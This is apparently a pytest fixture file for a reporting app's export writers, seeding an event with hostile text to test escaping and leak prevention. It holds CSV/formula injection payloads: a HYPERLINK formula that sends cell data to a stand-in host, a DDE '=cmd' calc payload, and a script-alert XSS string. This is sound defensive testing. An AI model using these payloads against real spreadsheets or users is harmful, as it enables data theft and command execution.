"""One event full of text that breaks careless writers, shared by all tests of files."""

import io
import re
import shutil
import subprocess
import zipfile

import pytest

from dim.models import Event
from dim.operations.problems.content import RecommendationContent
from dim.reports.writers import FORMATS
from tests import factories as make

FORMULA = '=HYPERLINK("http://contoh.test/?q="&A1,"klik")'
HTML = "<script>alert(1)</script> & <b>tebal</b> \"kutip\" 'petik'"
# What XlsxWriter would take for its own rich text and write as it is.
RICH = "<r><t>palsu</t></r>"
ESCAPE = "_x0041_ bukan A"
EMOJI = "Gudang 🏚️ bocor 😀👨‍👩‍👧"
RIGHT_TO_LEFT = "חוק \u202eterbalik\u202c يمين"
LONG = "Panjang sekali 😀. " * 2_300  # 41,400 characters, more in UTF-16
LINES = "\n".join(f"{number}. baris" for number in range(1, 61))
BLANKS = "  spasi di depan dan belakang  \n\n"
DASH = "- butir dengan tanda hubung"
SEPARATORS = 'titik koma; koma, "kutip"; tab\tdi tengah'

HOSTILE = [FORMULA, HTML, RICH, ESCAPE, EMOJI, RIGHT_TO_LEFT, LONG, LINES, BLANKS, DASH, SEPARATORS]
SECRET_DRAFT = "draf yang belum boleh keluar"
SECRET_WITHDRAWN = "butir yang sudah ditarik"
SECRET_NOTE = "catatan internal penelaah"


@pytest.fixture
def hostile(event, division, class_a, class_b):
    """Entries whose every text is hostile, one refused, and what must never be printed."""
    issue = make.issue(division, 1, title='=1+1 & <i>isu</i>; "x"')
    office = make.office(name="=KPU Kab. <Uji>")
    for number, text in enumerate(HOSTILE):
        make.problem(
            class_a if number % 2 else class_b,
            ("submitted", "accepted", "returned")[number % 3],
            statement=text,
            cause=text,
            impact=text,
            legal_basis=text,
            strategic_issue=issue,
            offices=(office,),
            recommendations=(
                RecommendationContent(text, ("KPU RI", "@SUM(A1)", "=Kemenkeu <b>"), "immediate"),
                RecommendationContent(f"{text}\nkedua", (), ""),
            ),
        )
    make.problem(class_a, "not_agreed", statement="Tidak disepakati =2+2", strategic_issue=issue)
    make.problem(class_a, "withdrawn", statement=SECRET_WITHDRAWN)
    draft = make.problem(class_a, "draft", statement=SECRET_DRAFT)
    draft.review_notes.create(author=draft.created_by, text=SECRET_NOTE)
    Event.objects.filter(pk=event.pk).update(
        name='Konsolnas & "uji" <b>', venue="=cmd|' /C calc'!A0"
    )
    event.refresh_from_db()
    return event


@pytest.fixture
def as_bytes():
    """``as_bytes(report, "csv")``: the file of this report."""

    def write(report, extension):
        file = io.BytesIO()
        FORMATS[extension].write(report, file)
        return file.getvalue()

    return write


def pdf_pages(content):
    """The text of every page of a PDF; skips where there is nothing to read it with."""
    if shutil.which("pdftotext") is None:
        pytest.skip("poppler-utils is not installed")
    done = subprocess.run(
        ["pdftotext", "-raw", "-", "-"], input=content, capture_output=True, check=True
    )
    return done.stdout.decode().removesuffix("\f").split("\f")


def readable(content, extension):
    """What a file holds as bytes that can be searched: unpacked, a PDF as text without breaks."""
    if extension in {"docx", "pptx", "xlsx"}:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            inside = b"".join(archive.read(name) for name in archive.namelist())
        # Word writes the hyphens of codes as an element.
        return re.sub(rb"</w:t><w:noBreakHyphen/><w:t[^>]*>", b"-", inside)
    return " ".join("".join(pdf_pages(content)).split()).encode() if extension == "pdf" else content
